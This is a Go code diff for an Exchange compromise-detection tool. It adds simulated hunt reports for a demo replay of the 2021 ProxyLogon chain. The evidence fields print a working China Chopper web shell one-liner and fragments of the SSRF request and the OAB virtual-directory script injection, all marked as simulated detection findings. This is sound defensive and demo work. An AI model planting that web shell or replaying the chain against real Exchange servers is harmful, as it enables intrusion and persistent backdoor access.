@@ -11,6 +11,7 @@ import (
 	"strings"
 	"time"
 
+	"github.com/exsweep/exsweep/internal/hunt"
 	"github.com/exsweep/exsweep/internal/notify"
 	"github.com/exsweep/exsweep/internal/store"
 )
@@ -294,6 +295,61 @@ func Replay(ctx context.Context, st *store.Store, scenario string, opts ReplayOp
 			if err := sendReplayMessages(ctx, st, orgs, rng, clock); err != nil {
 				return err
 			}
+		}
+	}
+	return importReplayHunts(ctx, st, hosts, &clock)
+}
+
+// replayHunts is how many compromised servers get a (simulated) hunt
+// report, so the demo's endpoint pages show findings and a timeline.
+const replayHunts = 3
+
+// importReplayHunts stores a simulated exsweep hunt report for the first
+// few compromised servers, dated like their compromise: the HttpProxy SSRF,
+// the OAB virtual directory change and the web shell of the March 2021 chain.
+func importReplayHunts(ctx context.Context, st *store.Store, hosts []*replayHost, clock *time.Time) error {
+	n := 0
+	for i, h := range hosts {
+		if h.shellFrom < 0 || n == replayHunts {
+			continue
+		}
+		n++
+		at := March2021RunDates[h.shellFrom].Add(-20 * time.Hour).Add(time.Duration(i%3600) * time.Second)
+		shell := fmt.Sprintf("C:/inetpub/wwwroot/aspnet_client/system_web/%08x.aspx", uint32(i)*2654435761)
+		rep := hunt.Report{Host: strings.ToUpper(strings.SplitN(h.hostname, ".", 2)[0]), Root: "(lab replay: simulated)",
+			Started: clock.Add(time.Hour), Finished: clock.Add(time.Hour + 3*time.Minute), Verdict: hunt.VerdictCompromised,
+			Summary: fmt.Sprintf("COMPROMISED: web shell %s written %s after SSRF from 203.0.113.45 (simulated)", shell, at.Add(4*time.Minute).Format(time.RFC3339)),
+			Findings: []hunt.Finding{
+				{ID: "F0001", Check: "webshell-china-chopper", Title: "China Chopper web shell", Severity: "critical", Grade: hunt.GradeBackdoor,
+					Time: at.Add(4 * time.Minute), Path: shell, CVE: []string{"CVE-2021-27065"},
+					Evidence: `<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>`,
+					Guidance: "Take a forensic copy, then follow Microsoft's ProxyLogon guidance; patching does not remove it."},
+				{ID: "F0002", Check: "httpproxy-ssrf", Title: "SSRF through /ecp/ to the back end (CVE-2021-26855)", Severity: "high",
+					Grade: hunt.GradeExploited, Time: at, Path: "Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG", Line: 1187,
+					CVE: []string{"CVE-2021-26855"}, Client: "203.0.113.45",
+					Evidence: "ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=…"},
+				{ID: "F0003", Check: "oab-vdir-externalurl", Title: "OAB virtual directory ExternalUrl set to a script (CVE-2021-27065)",
+					Severity: "high", Grade: hunt.GradeExploited, Time: at.Add(3 * time.Minute), Path: "Exchange/Logging/ECP/Server/ECPServer_2021030301-1.LOG",
+					CVE: []string{"CVE-2021-27065"}, Evidence: "Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">…'"},
+			},
+			Timeline: []hunt.Event{
+				{Time: at, Source: "httpproxy/Ecp", Path: "Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG", Line: 1187,
+					Grade: hunt.GradeExploited, Finding: "F0002", Client: "203.0.113.45", What: "POST /ecp/y.js with X-BEResource cookie to the back end"},
+				{Time: at.Add(3 * time.Minute), Source: "ecp", Path: "Exchange/Logging/ECP/Server/ECPServer_2021030301-1.LOG",
+					Grade: hunt.GradeExploited, Finding: "F0003", What: "Set-OabVirtualDirectory -ExternalUrl with a script"},
+				{Time: at.Add(4 * time.Minute), Source: "file", Path: shell, Grade: hunt.GradeBackdoor, Finding: "F0001",
+					What: "web shell written (file modification time)"},
+				{Time: at.Add(40 * time.Minute), Source: "iis", Path: "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", Line: 5521,
+					Grade: hunt.GradeBackdoor, Client: "203.0.113.45", What: "POST " + strings.TrimPrefix(shell, "C:/inetpub/wwwroot") + " 200"},
+			},
+		}
+		b, err := json.Marshal(rep)
+		if err != nil {
+			return err
+		}
+		if _, err := st.AddHuntReport(ctx, store.HuntReport{Endpoint: h.ep, Verdict: rep.Verdict, Summary: rep.Summary,
+			Source: "lab replay (simulated)", Report: b}); err != nil {
+			return err
 		}
 	}
 	return nil
